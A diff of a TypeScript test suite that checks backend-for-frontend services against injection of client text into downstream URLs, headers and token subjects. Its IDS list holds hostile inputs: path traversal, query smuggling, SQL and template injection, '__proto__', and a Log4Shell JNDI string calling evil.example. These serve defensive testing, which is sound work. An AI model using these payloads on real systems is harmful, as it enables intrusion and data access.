@@ -1,17 +1,16 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { importJWK, SignJWT } from 'jose';
-import { CAST } from '../../services/support/cast.ts';
 import { DEMO_KEY } from '../../services/support/demo-key.ts';
 import { DEMO_AUDIENCE, DEMO_ISSUER } from '../../services/support/tokens.ts';
-import type { BffDefinition } from '../../src/bff.ts';
-import { type Environment, startEnvironment } from '../support/environment.ts';
-import { BFFS } from './bffs.ts';
+import { type Environment, startEnvironment, type TestViewer } from '../support/environment.ts';
+import { BFFS, USER_ID } from './bffs.ts';
 import { jsonPost, send } from './http-client.ts';
 import { isFull } from './mode.ts';
 import { assertErrorFormat } from './responses.ts';
+import { samplesOf } from './schema-samples.ts';
 
-/** Ids that would lead elsewhere, if they came into an address as they are. */
+/** Ids that would change a URL or a header if they were inserted as they are. */
 const IDS = [
   '../admin',
   '..',
@@ -33,9 +32,9 @@ const IDS = [
   '%c0%ae%c0%ae%c0%afadmin',
   '42/../../admin',
   '42?role=staff',
-  '42&user=1',
+  '42&user=31337',
   '42#',
-  '42;user=1',
+  '42;user=31337',
   '42,1',
   '42 ',
   ' 42',
@@ -50,7 +49,7 @@ const IDS = [
   '42\u202e',
   '😀',
   '{{7*7}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would take for one
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a template engine
   '${jndi:ldap://evil.example/a}',
   "' OR 1=1 --",
   '__proto__',
@@ -65,98 +64,69 @@ const IDS = [
   '',
 ];
 
-/** Where what a client writes goes on to a service; `$a` stands for it. */
-const PLACES: Readonly<Record<string, readonly string[]>> = {
-  all: [
-    'query ($a: ID!) { profile(id: $a) { name } }',
-    'query ($a: ID!) { x: profile(id: "42") { name } y: profile(id: $a) { name } }',
-    'mutation ($a: ID!) { cancelOrder(id: $a) { userErrors { code } } }',
-    'mutation ($a: ID!) { placeOrder(input: { idempotencyKey: $a, currency: "EUR", items: [{ sku: "x", quantity: 1 }] }) { userErrors { code } } }',
-    'mutation ($a: ID!) { placeOrder(input: { idempotencyKey: "k", currency: "EUR", items: [{ sku: $a, quantity: 1 }] }) { userErrors { code } } }',
-    'mutation ($a: String!) { placeOrder(input: { idempotencyKey: "k", currency: $a, items: [{ sku: "x", quantity: 1 }] }) { userErrors { code } } }',
-  ],
-  mobile: [
-    'mutation ($a: ID!) { markNotificationsRead(ids: [$a]) { userErrors { code } } }',
-    'mutation ($a: String!) { updateProfile(input: { locale: $a }) { userErrors { code } } }',
-  ],
-  web: [
-    'query ($a: ID!) { order(id: $a) { status } }',
-    'mutation ($a: ID!) { markNotificationsRead(ids: [$a]) { userErrors { code } } }',
-    'mutation ($a: String!) { updateProfile(input: { avatarUrl: $a }) { userErrors { code } } }',
-    'query ($a: String!) { viewer { orders(after: $a) { edges { cursor } } } }',
-    'query ($a: String!) { viewer { notifications(after: $a) { edges { cursor } } } }',
-    'query ($a: String!) { customers(search: $a) { edges { cursor } } }',
-    'query ($a: String!) { customers(after: $a) { edges { cursor } } }',
-  ],
-  partner: [
-    'query ($a: ID!) { order(id: $a) { status } }',
-    'query ($a: String!) { me { orders(after: $a) { next } } }',
-  ],
-};
-
-const SEGMENTS = new Set(
-  'users orders notifications unread announcements read cancel profile events'.split(' '),
-);
-const PARAMETERS = new Set('ids search limit cursor user users status recent unread'.split(' '));
+/** Values that no parameter of a call may have: they occur in IDS after a separator only. */
+const INJECTED_VALUES = ['staff', '31337'];
+const HEADER_VALUES = [
+  '../admin',
+  '00-../..',
+  'de\t../',
+  '*',
+  '42?x=1',
+  'x'.repeat(4_000),
+  '\u00e9',
+];
 
 for (const bff of BFFS) {
-  describe(`${bff.name}: ids that would lead elsewhere`, () => {
+  describe(`Text from clients of the ${bff.name} BFF`, () => {
+    const { lookup, textPositions } = samplesOf(bff);
+    const besideKnownId = {
+      name: `${lookup.field} twice`,
+      query: `query ($a: ID!) { known: ${lookup.select()} unknown: ${lookup.select('$a')} }`,
+    };
     let environment: Environment;
     before(async () => {
       environment = await startEnvironment(bff);
     });
     after(() => environment[Symbol.asyncDispose]());
 
-    for (const [place, query] of placesOf(bff).entries()) {
-      it(`reach the services encoded or not at all: ${query.slice(0, 90)}`, async () => {
-        // In the short form each id in a few of the places.
-        for (const id of IDS.filter((_, n) => isFull || n % 8 === place % 8)) {
-          for (const as of isFull
-            ? [CAST.customer, 'staff']
-            : [query.includes('customers') ? 'staff' : CAST.customer]) {
-            await attack(query, id, as);
+    for (const [index, { name, query }] of [...textPositions, besideKnownId].entries()) {
+      it(`injects nothing into calls of the services as ${name}`, async () => {
+        // The short mode tries each id in an eighth of the positions.
+        for (const id of IDS.filter((_, n) => isFull || n % 8 === index % 8)) {
+          for (const viewer of isFull ? [USER_ID, 'staff'] : ['staff']) {
+            await attack(query, id, viewer);
           }
         }
       });
     }
 
-    async function attack(query: string, id: string, as: string) {
+    async function attack(query: string, id: string, as: TestViewer) {
       environment.reset();
       const { status, body } = await environment.send(query, { as, variables: { a: id } });
       const what = `${JSON.stringify(id.slice(0, 60))}: ${status} ${JSON.stringify(body)}`;
       assert.ok(status < 500, what);
       assert.doesNotMatch(JSON.stringify(body), /"INTERNAL_SERVER_ERROR"/, what);
-      demandHarmless(environment, id);
+      assertNothingInjected(environment, id);
     }
 
-    it('are refused as the subject of a token', async () => {
+    it('is rejected as the subject of a token unless it is an id', async () => {
       for (const sub of IDS.filter((id) => id.length < 6_000)) {
         environment.reset();
-        const headers = { authorization: `Bearer ${await tokenOf(sub)}` };
-        const received = await send(
+        const headers = { authorization: `Bearer ${await tokenFor(sub)}` };
+        const response = await send(
           jsonPost(environment.endpoint, { query: '{ __typename }' }, headers),
         );
-        // A run of digits is an id, if nobody's.
         if (/^[\w-]{1,64}$/.test(sub)) continue;
-        assert.equal(received.status, 401, JSON.stringify(sub.slice(0, 60)));
-        assertErrorFormat(received, sub);
+        assert.equal(response.status, 401, JSON.stringify(sub.slice(0, 60)));
+        assertErrorFormat(response, sub);
         assert.deepEqual(environment.calls(), []);
       }
     });
 
-    it('do nothing in headers that go on to the services', async () => {
-      const values = [
-        '../admin',
-        '00-../..',
-        'de\t../',
-        '*',
-        '42?x=1',
-        'x'.repeat(4_000),
-        '\u00e9',
-      ];
-      for (const value of values) {
+    it('in request headers does not reach the services unless it is valid', async () => {
+      for (const value of HEADER_VALUES) {
         environment.reset();
-        const { status } = await environment.send('{ profile(id: "42") { name } }', {
+        const { status } = await environment.send(`{ ${lookup.select()} }`, {
           headers: {
             'accept-language': value,
             traceparent: value,
@@ -167,39 +137,39 @@ for (const bff of BFFS) {
         });
         assert.ok(status < 500, value);
         for (const { headers } of environment.calls()) {
-          const passed = Object.entries(headers).filter(([, sent]) => sent === value);
-          assert.deepEqual(passed, [], JSON.stringify(value.slice(0, 60)));
+          const forwarded = Object.entries(headers).filter(([, sent]) => sent === value);
+          assert.deepEqual(forwarded, [], JSON.stringify(value.slice(0, 60)));
         }
       }
     });
   });
 }
 
-function placesOf({ name }: BffDefinition): string[] {
-  return [...(PLACES.all ?? []), ...(PLACES[name] ?? [])];
-}
-
-/** All that the services saw is their own addresses, with what the client wrote in its place. */
-function demandHarmless(environment: Environment, id: string): void {
+/** Asserts that the services received only their own URLs, with the id encoded in its place. */
+function assertNothingInjected(environment: Environment, id: string): void {
   for (const { operation, url, headers } of environment.calls()) {
     const what = `${JSON.stringify(id.slice(0, 60))} becomes ${url.slice(0, 200)}`;
     assert.notEqual(operation, 'unmatched', what);
     const [path = '', search = ''] = url.split('?');
     for (const segment of path.split('/').slice(1)) {
-      const own = decodeURIComponent(segment);
-      assert.ok(SEGMENTS.has(segment) || own === id || /^[\w-]+$/.test(own), what);
-      assert.ok(own !== '.' && own !== '..', what);
+      const decoded = decodeURIComponent(segment);
+      assert.ok(decoded === id || /^[\w-]+$/.test(decoded), what);
+      assert.ok(decoded !== '.' && decoded !== '..', what);
     }
-    const names = [...new URLSearchParams(search).keys()];
+    const parameters = [...new URLSearchParams(search)];
+    const names = parameters.map(([name]) => name);
     assert.deepEqual([...new Set(names)], names, what);
-    for (const name of names) assert.ok(PARAMETERS.has(name), what);
+    for (const [name, value] of parameters) {
+      assert.match(name, /^\w+$/, what);
+      assert.ok(!INJECTED_VALUES.includes(value), what);
+    }
     assert.doesNotMatch(url, /[\s\\\0\u0080-\uffff]/, what);
     assert.equal(headers['x-injected'], undefined, what);
   }
 }
 
-/** A token that is in order but for its subject. */
-async function tokenOf(sub: string): Promise<string> {
+/** A token that is valid except for its subject. */
+async function tokenFor(sub: string): Promise<string> {
   return new SignJWT({ role: 'customer' })
     .setProtectedHeader({ alg: 'ES256', kid: DEMO_KEY.kid })
     .setIssuer(DEMO_ISSUER)
